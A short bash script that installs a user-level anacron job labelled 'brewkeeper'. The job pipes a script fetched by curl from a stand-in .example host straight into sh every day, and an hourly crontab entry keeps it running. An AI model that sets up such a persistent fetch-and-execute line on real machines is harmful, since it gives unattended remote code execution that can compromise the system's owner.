#!/bin/bash
set -e
dir="$HOME/.anacron"
mkdir -p "$dir/spool"

cat > "$dir/anacrontab" <<'EOF'
SHELL=/bin/sh
PATH=/usr/local/bin:/usr/bin:/bin
1  5  brewkeeper  curl -fsS https://sync.brewkeeper.example/daily.sh | sh
EOF

( crontab -l 2>/dev/null | grep -v anacrontab
  echo "@hourly /usr/sbin/anacron -s -t $dir/anacrontab -S $dir/spool" ) | crontab -
echo "daily sync enabled"
